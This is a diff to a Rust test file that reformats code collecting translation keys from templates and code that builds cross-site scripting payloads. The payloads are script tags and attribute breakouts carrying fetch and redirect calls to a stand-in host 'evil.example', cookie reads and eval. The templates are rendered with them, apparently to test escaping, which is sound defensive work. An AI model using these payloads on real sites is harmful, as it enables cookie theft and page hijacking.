@@ -32,17 +32,37 @@ fn used() -> BTreeSet<String> {
         used.extend(named(&text, ".count(\"").into_iter().map(|id| format!("{id}-one")));
         if file.extension().is_some_and(|ending| ending == "html") {
             let macros = ["field", "date", "select", "radio"];
-            let calls = macros.iter().flat_map(|name| text.split(&format!("{{% call forms::{name}(page, ")).skip(1).collect::<Vec<_>>());
+            let calls = macros.iter().flat_map(|name| {
+                text.split(&format!("{{% call forms::{name}(page, ")).skip(1).collect::<Vec<_>>()
+            });
             for call in calls {
                 let quoted: Vec<_> = call.split(")%}").next().unwrap_or(call).split('"').collect();
-                used.extend(quoted.get(3).map(|label| (*label).to_owned()).filter(|label| label.contains('-')));
+                used.extend(
+                    quoted.get(3).map(|label| (*label).to_owned()).filter(|label| label.contains('-')),
+                );
             }
         } else {
             // Keys on their way to a text: they look like nothing else in these files.
-            let prefixes = ["wrong-", "said-", "now-", "says-", "row-", "conflict", "menu-", "state-", "role-", "progress-", "lead-"];
+            let prefixes = [
+                "wrong-",
+                "said-",
+                "now-",
+                "says-",
+                "row-",
+                "conflict",
+                "menu-",
+                "state-",
+                "role-",
+                "progress-",
+                "lead-",
+            ];
             let quoted = text.split('"').skip(1).step_by(2);
             let keys = quoted.filter(|text| prefixes.iter().any(|prefix| text.starts_with(prefix)));
-            used.extend(keys.filter(|key| !key.contains(['{', ' ', '/'])).filter(|key| !key.ends_with('-')).map(str::to_owned));
+            used.extend(
+                keys.filter(|key| !key.contains(['{', ' ', '/']))
+                    .filter(|key| !key.ends_with('-'))
+                    .map(str::to_owned),
+            );
         }
     }
     used
@@ -63,7 +83,13 @@ fn every_text_that_a_page_shows_is_there_in_both_languages() {
 
 /// Fifty ways to make a page do something else than show a text.
 fn payloads() -> Vec<String> {
-    let acts = ["alert(1)", "fetch('//evil.example')", "document.cookie", "top.location='//evil.example'", "eval(name)"];
+    let acts = [
+        "alert(1)",
+        "fetch('//evil.example')",
+        "document.cookie",
+        "top.location='//evil.example'",
+        "eval(name)",
+    ];
     let shapes = [
         "<script>§</script>",
         "\"><script>§</script>",
@@ -100,8 +126,12 @@ fn page(text: &str) -> Page {
 
 /// Every template that shows what somebody filled in, rendered with this text in every field.
 fn everything(text: &str) -> Vec<String> {
-    let failure =
-        Failure { page: page(text), title: "failed-title", text: "failed-text", detail: Some(text.to_owned()) };
+    let failure = Failure {
+        page: page(text),
+        title: "failed-title",
+        text: "failed-text",
+        detail: Some(text.to_owned()),
+    };
     let mut all = vec![failure.render().unwrap()];
     all.extend(super::overview::rendered(page(text), text));
     all.extend(super::new_signal::rendered(&|| page(text), text));
